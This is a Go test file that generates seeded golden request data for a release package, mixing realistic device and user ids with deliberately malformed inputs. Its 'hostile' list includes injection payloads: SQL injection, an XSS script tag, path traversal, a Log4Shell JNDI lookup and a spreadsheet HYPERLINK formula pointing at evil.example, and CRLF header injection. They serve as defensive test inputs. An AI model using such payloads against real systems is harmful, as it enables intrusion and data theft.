package release

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// goldenSeed makes the golden requests. Another seed is another oracle.
const goldenSeed = 2027

const goldenPath = "golden/requests.tsv"

// TestGoldenRequests holds the committed file to its seed; -update writes it.
func TestGoldenRequests(t *testing.T) {
	t.Parallel()
	requests := makeGolden()
	want := writeGolden(requests)
	if *update {
		if err := os.WriteFile(goldenPath, []byte(want), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if got := string(must(os.ReadFile(goldenPath))); got != want {
		t.Errorf("%s is not what seed %d makes; a new oracle is written by: go test ./release -run TestGoldenRequests -update", goldenPath, goldenSeed)
	}
	if !*update && !slices.Equal(must(GoldenRequests()), requests) {
		t.Error("what was written is not read")
	}
}

// hostile ids are what handlers have met: placeholders, every kind of Unicode,
// injections, and sizes at and beyond the limit.
var hostile = []string{"null", "NULL", " undefined ", "(null)", "unknown", "None", "0", "-1", "true", "00000000-0000-0000-0000-000000000000",
	"000000000000000", " ", "\t", "\u3000", "\u200b", "\ufeff", " d-1001 ", "d-1001\n", "d-1001\x00", "\x00", "\x1b[31mred", "x\n{\"level\":\"INFO\"}",
	"设备一号", "用户", "😀", "👩‍👩‍👧‍👦", "e\u0301", "\u00e9", "ß", "ſ", "İ", "ΑΣ", "ⅷ", "\u202edcba", "\xff\xfe", "\xed\xa0\x80", "a\u0300\u0301\u0302\u0303",
	"' OR 1=1 --", "\"; DROP TABLE lists; --", "<script>alert(1)</script>", "../../etc/passwd", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%00", "%2e%2e%2f",
	"=HYPERLINK(\"http://evil.example\")", "+1", "@SUM(A1)", "a,b", "a;b", "a|b", "a&b=c", "a\\b", "\r\nX-User-Id: admin", "*", "?", "//evil.example",
	strings.Repeat("a", 256), strings.Repeat("b", 257), strings.Repeat("界", 85), strings.Repeat("界", 86), strings.Repeat("%", 300), strings.Repeat(" ", 300)}

// makeGolden makes the requests. A tenth has no device id, two thirds no user
// id, a twentieth something hostile in one place.
func makeGolden() []GoldenRequest {
	r := rand.New(rand.NewPCG(goldenSeed, goldenSeed))
	one := func(of ...string) string { return of[r.IntN(len(of))] }
	requests := make([]GoldenRequest, goldenCount)
	for n := range requests {
		g := &requests[n]
		if r.IntN(10) != 0 {
			g.Device = goldenDevice(r)
		}
		if r.IntN(3) == 0 {
			g.User = fmt.Sprintf("u%08d", r.IntN(1e8))
		}
		g.AppVersion = one("", "1.0.0", "9.9.12", "10.1", "10.2", "10.2.0", "10.2.3-beta.1", "v10.2.4", "10.3.1+7", "11.0.0-rc.1", "11", "11.4.2.9", "99")
		g.Platform = one("", "ios", "ios", "android", "android", "android", "web", "harmony", "iOS")
		g.Channel = one("", "", "", "appstore", "huawei", "xiaomi", "oppo", "vivo", "enterprise")
		g.Carrier = one("", "", "cmcc", "cucc", "ctcc")
		g.Locale = one("", "zh-CN", "zh-CN", "zh_CN", "zh-Hant-HK", "en-US", "en", "ja")
		g.Origin = one("", "", "", "", "", "", "", "sh", "bj", "nowhere")
		g.Addr = goldenAddr(r)
		if r.IntN(20) == 0 {
			*[]*string{&g.Device, &g.Device, &g.User, &g.User, &g.AppVersion, &g.Platform, &g.Channel, &g.Carrier, &g.Locale, &g.Origin}[r.IntN(10)] = one(hostile...)
		}
		if r.IntN(100) == 0 {
			g.AppVersion = one("latest", "99999999999999999999.1", "-1", "1..2", "10.2.", ".1", "10,2", "10.2 beta", "١٠.٢", strings.Repeat("1.", 40)+"1")
		}
	}
	for n, id := range hostile { // each of them at least once as a device and as a user
		requests[2*n].Device, requests[2*n+1].User = id, id
	}
	return requests
}

func goldenDevice(r *rand.Rand) string {
	uuid := fmt.Sprintf("%08x-%04x-4%03x-%04x-%012x", r.Uint32(), r.IntN(1<<16), r.IntN(1<<12), 0x8000|r.IntN(1<<14), r.Int64N(1<<48))
	switch r.IntN(10) {
	case 0, 1, 2:
		return uuid
	case 3, 4:
		return strings.ToUpper(uuid) // as iOS writes them
	case 5, 6:
		return fmt.Sprintf("86%013d", r.Int64N(1e13)) // IMEI
	case 7:
		return fmt.Sprintf("%016x", r.Uint64()) // Android
	default:
		return fmt.Sprintf("d-%d", 1000+r.IntN(1e6))
	}
}

func goldenAddr(r *rand.Rand) netip.Addr {
	v4 := netip.AddrFrom4([4]byte{byte(1 + r.IntN(223)), byte(r.IntN(256)), byte(r.IntN(256)), byte(r.IntN(256))})
	v6 := [16]byte{0x24, byte(r.IntN(256)), byte(r.IntN(256)), byte(r.IntN(256)), 4: byte(r.IntN(256)), 5: byte(r.IntN(256)), 6: byte(r.IntN(256)), 15: byte(r.IntN(256))}
	switch r.IntN(20) {
	case 0:
		return netip.Addr{}
	case 1:
		return netip.AddrFrom16(v4.As16()) // an IPv4 address in the form of IPv6
	case 2:
		return netip.MustParseAddr([]string{"192.0.2.1", "198.51.100.255", "203.0.113.0", "127.0.0.1", "10.0.0.1", "0.0.0.0", "255.255.255.255",
			"::", "::1", "fe80::1%eth0", "fc00::1", "ff02::1", "2001:db8::1", "64:ff9b::c000:201", "2002:c000:201::1"}[r.IntN(15)])
	case 3, 4, 5, 6, 7:
		return netip.AddrFrom16(v6)
	default:
		return v4
	}
}

func writeGolden(requests []GoldenRequest) string {
	var b strings.Builder
	b.WriteString("# device\tuser\tapp_version\tplatform\tchannel\tcarrier\tlocale\torigin\taddress\n")
	for _, g := range requests {
		for _, value := range []string{g.Device, g.User, g.AppVersion, g.Platform, g.Channel, g.Carrier, g.Locale, g.Origin} {
			if quoted := strconv.QuoteToASCII(value); quoted[1:len(quoted)-1] != value || strings.TrimSpace(value) != value || strings.HasPrefix(value, "#") {
				value = quoted
			}
			b.WriteString(value + "\t")
		}
		if g.Addr.IsValid() {
			b.WriteString(g.Addr.String())
		}
		b.WriteByte('\n')
	}
	return b.String()
}
